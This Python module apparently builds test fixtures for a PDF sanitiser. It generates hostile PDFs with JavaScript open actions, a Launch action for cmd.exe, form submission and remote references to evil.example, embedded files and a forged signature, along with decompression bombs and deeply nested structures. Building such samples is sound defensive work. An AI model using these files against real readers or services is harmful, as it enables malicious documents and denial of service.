"""PDFs that act, carry or pretend, made here: name → bytes."""

import io
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

Change = Callable[[pikepdf.Pdf], None]


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def uri() -> Dictionary:
    return Dictionary(S=Name.URI, URI=String("https://evil.example/"))


def launch() -> Dictionary:
    return Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))


def file_spec(pdf: pikepdf.Pdf, name: str = "发票.xml") -> Any:
    stream = pdf.make_stream(b"<invoice/>", Type=Name.EmbeddedFile)
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=name, UF=name, EF=Dictionary(F=stream))
    )


def page(pdf: pikepdf.Pdf, drawn: bytes = b"0 0 100 100 re f") -> Any:
    made = pdf.add_blank_page(page_size=(200, 200))
    made.obj.Contents = pdf.make_stream(drawn)
    return made.obj


def pdf_with(change: Change) -> bytes:
    target = io.BytesIO()
    with pikepdf.new() as pdf:
        page(pdf)
        change(pdf)
        pdf.save(target)
    return target.getvalue()


def _first(pdf: pikepdf.Pdf) -> Any:
    return pdf.pages[0].obj


def _annotated(**keys: Any) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 50, 50]), **keys)
        _first(pdf).Annots = Array([pdf.make_indirect(note)])

    return change


def _rooted(**keys: Any) -> Change:
    def change(pdf: pikepdf.Pdf) -> None:
        for key, value in keys.items():
            pdf.Root[f"/{key}"] = value(pdf) if callable(value) else value

    return change


def _next_chain(pdf: pikepdf.Pdf) -> None:
    harmless = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=script())
    _annotated(Subtype=Name.Link, A=harmless)(pdf)


def _deep_next(pdf: pikepdf.Pdf) -> None:
    action = script()
    for _level in range(20):
        action = Dictionary(S=Name.URI, URI="x", Next=Array([action]))
    _annotated(Subtype=Name.Link, A=pdf.make_indirect(action))(pdf)


def _page_actions(pdf: pikepdf.Pdf) -> None:
    _first(pdf).AA = Dictionary(O=script(), C=launch())


def _attachment_annotation(pdf: pikepdf.Pdf) -> None:
    _annotated(Subtype=Name.FileAttachment, FS=file_spec(pdf))(pdf)


def _embedded(pdf: pikepdf.Pdf) -> None:
    names = Array(["a", file_spec(pdf)])
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=names))


def _portfolio(pdf: pikepdf.Pdf) -> None:
    _embedded(pdf)
    pdf.Root.Collection = Dictionary(View=Name.D)


def _associated(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AF = Array([file_spec(pdf)])
    _first(pdf).AF = Array([file_spec(pdf, "second.xml")])


def _named_scripts(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", script()])))


def _xfa(pdf: pikepdf.Pdf) -> None:
    form = pdf.make_stream(b"<xdp><script>app.alert(1)</script></xdp>")
    pdf.Root.AcroForm = Dictionary(XFA=form, Fields=Array([]))


def _form_field(pdf: pikepdf.Pdf) -> None:
    look = pdf.make_stream(
        b"0 0 9 9 re f", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 50, 50])
    )
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            Rect=Array([0, 0, 50, 50]),
            FT=Name.Tx,
            T="a",
            V="secret",
            AA=Dictionary(K=script()),
            AP=Dictionary(N=look),
        )
    )
    _first(pdf).Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), CO=Array([field]))


def _false_signature(pdf: pikepdf.Pdf) -> None:
    """The very trick by which a deny-list was passed: whoever looks signed is kept as he is."""
    seal = Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]), Contents=String("x"))
    field = pdf.make_indirect(Dictionary(FT=Name.Sig, T="seal", V=seal))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)
    pdf.Root.OpenAction = script()


def _rich_media(pdf: pikepdf.Pdf) -> None:
    assets = Dictionary(Names=Array(["a.swf", file_spec(pdf, "a.swf")]))
    _annotated(Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=assets))(pdf)


def _script_in_font(pdf: pikepdf.Pdf) -> None:
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, AA=script())
    _first(pdf).Resources = Dictionary(Font=Dictionary(JS=font, A=font))


def _properties(pdf: pikepdf.Pdf) -> None:
    _first(pdf).Resources = Dictionary(Properties=Dictionary(MC0=Dictionary(A=script())))


def _outside_stream(pdf: pikepdf.Pdf) -> None:
    stream = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    stream.F = String("//evil.example/share/x")
    stream.Ref = Dictionary(F=String("other.pdf"), Page=0)
    stream.OPI = Dictionary(F=String("x.tif"))
    _first(pdf).Resources = Dictionary(XObject=Dictionary(X=stream))


def _postscript(pdf: pikepdf.Pdf) -> None:
    program = pdf.make_stream(b"(cmd) run", Type=Name.XObject, Subtype=Name.PS)
    _first(pdf).Resources = Dictionary(XObject=Dictionary(X=program))


def _page_piece(pdf: pikepdf.Pdf) -> None:
    _first(pdf).PieceInfo = Dictionary(App=Dictionary(Private=pdf.make_stream(b"MZ program")))
    _first(pdf).Metadata = pdf.make_stream(b"<x:xmpmeta>somebody</x:xmpmeta>")


def _transition(pdf: pikepdf.Pdf) -> None:
    _first(pdf).Trans = Dictionary(S=Name.Fly)
    _first(pdf).PresSteps = Dictionary(NA=script())


HOSTILE: dict[str, bytes] = {
    f"pdf: {name}": pdf_with(change)
    for name, change in {
        "script on opening": _rooted(OpenAction=script()),
        "program on opening": _rooted(OpenAction=launch()),
        "actions of the document": _rooted(AA=Dictionary(WC=script())),
        "actions of a page": _page_actions,
        "named scripts": _named_scripts,
        "link with a script behind a jump": _next_chain,
        "scripts at the end of a chain": _deep_next,
        "link to outside": _annotated(Subtype=Name.Link, A=uri()),
        "remote document": _annotated(
            Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F="//evil.example/x.pdf", D=Array([0]))
        ),
        "embedded document": _annotated(
            Subtype=Name.Link, A=Dictionary(S=Name.GoToE, NewWindow=True)
        ),
        "form that sends itself": _annotated(
            Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F="https://evil.example/")
        ),
        "form that reads a file": _annotated(
            Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F="c:/x.fdf")
        ),
        "attached file": _embedded,
        "attachment behind an annotation": _attachment_annotation,
        "portfolio": _portfolio,
        "associated files": _associated,
        "XFA": _xfa,
        "form field": _form_field,
        "pretended signature": _false_signature,
        "rich media": _rich_media,
        "3D": _annotated(Subtype=Name("/3D"), OnInstantiate=script()),
        "movie": _annotated(Subtype=Name.Movie, Movie=Dictionary(F="x.avi")),
        "sound": _annotated(Subtype=Name.Sound),
        "rendition": _annotated(Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, JS="x()")),
        "script in a font": _script_in_font,
        "script in marked content": _properties,
        "stream in another file": _outside_stream,
        "PostScript program": _postscript,
        "private data and metadata": _page_piece,
        "transition with a script": _transition,
        "address base": _rooted(URI=Dictionary(Base="https://evil.example/")),
    }.items()
}


def _many_objects() -> bytes:
    """Two million objects in one packed stream of objects."""
    count = 2_000_000
    head = b" ".join(b"%d %d" % (10 + number, number * 3) for number in range(count))
    body = zlib.compress(head + b"\n" + b"<<>" * count, 1)
    return _raw(
        [
            b"<</Type/ObjStm/N %d/First %d/Filter/FlateDecode/Length %d>>stream\n%b\nendstream"
            % (count, len(head) + 1, len(body), body)
        ],
        10 + count,
    )


def _raw(objects: list[bytes], size: int = 0) -> bytes:
    """A file of ``objects`` after a catalogue and one page."""
    parts = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources 5 0 R>>",
        *objects,
    ]
    out, places = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, part)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1)
    trailer = b"trailer<</Root 1 0 R/Size %d>>\n" % (size or len(parts) + 1)
    return out + head + table + trailer + b"startxref\n%d\n%%%%EOF" % len(out)


def _stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%b>>stream\n%b\nendstream" % (len(data), more, data)


def _flate_bomb() -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(10**7)) for _time in range(200)) + packer.flush()
    return _raw([_stream(packed, b"/Filter/FlateDecode"), b"<<>>"])


def _nested_flate() -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(10**7)) for _time in range(100)) + packer.flush()
    return _raw([_stream(zlib.compress(packed, 9), b"/Filter[/FlateDecode/FlateDecode]"), b"<<>>"])


def _lzw_bomb() -> bytes:
    return _raw([_stream(b"\x81\x80" * 10**6, b"/Filter[/RunLengthDecode/LZWDecode]"), b"<<>>"])


def _run_length() -> bytes:
    return _raw([_stream(b"\x81\0" * 2 * 10**6, b"/Filter/RunLengthDecode"), b"<<>>"])


def _laughing() -> bytes:
    """Arrays of arrays of arrays: three kilobytes that would be a billion numbers."""
    rows = [b"[%b]" % (b"%d 0 R " % (7 + level) * 10) for level in range(30)]
    return _raw([_stream(b"q Q"), b"<</ColorSpace<</A 6 0 R>>>>", *rows, b"[0]"])


def _deep() -> bytes:
    return _raw([_stream(b"q Q"), b"<</ExtGState<</A " + b"[" * 100_000 + b"]" * 100_000 + b">>>>"])


def _deep_indirect() -> bytes:
    rows = [b"<</Group %d 0 R>>" % (7 + level) for level in range(5_000)]
    return _raw([_stream(b"q Q"), b"<</ExtGState<</A 6 0 R>>>>", *rows, b"<<>>"])


def _circle() -> bytes:
    return _raw(
        [
            _stream(b"/X Do", b"/Resources 5 0 R/Subtype/Form"),
            b"<</XObject<</X 4 0 R>>/Font 5 0 R>>",
        ]
    )


def _page_tree() -> bytes:
    target = io.BytesIO()
    with pikepdf.new() as pdf:
        for _number in range(30_000):
            pdf.pages.append(pikepdf.Page(pdf.make_indirect(Dictionary(Type=Name.Page))))
        pdf.save(target)
    return target.getvalue()


def _pixels() -> bytes:
    picture = (
        b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8"
        b"/ColorSpace/DeviceRGB/Filter/FlateDecode"
    )
    return _raw(
        [
            _stream(b"/X Do"),
            b"<</XObject<</X 6 0 R>>>>",
            _stream(zlib.compress(bytes(10**6)), picture),
        ]
    )


def _many_annotations() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        look = pdf.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
        notes = [
            Dictionary(Subtype=Name.Stamp, Rect=Array([0, 0, 9, 9]), AP=Dictionary(N=look))
            for _number in range(150_000)
        ]
        _first(pdf).Annots = pdf.make_indirect(Array(notes))

    return pdf_with(change)


BOMBS: dict[str, Callable[[], bytes]] = {
    "pdf: two million objects": _many_objects,
    "pdf: content of 2 GB": _flate_bomb,
    "pdf: packed twice": _nested_flate,
    "pdf: packed in two ways": _lzw_bomb,
    "pdf: run lengths": _run_length,
    "pdf: a billion numbers": _laughing,
    "pdf: nested 100,000 deep": _deep,
    "pdf: nested through objects": _deep_indirect,
    "pdf: drawn in itself": _circle,
    "pdf: 30,000 pages": _page_tree,
    "pdf: a picture of 3,600 megapixels": _pixels,
    "pdf: 150,000 stamps": _many_annotations,
}
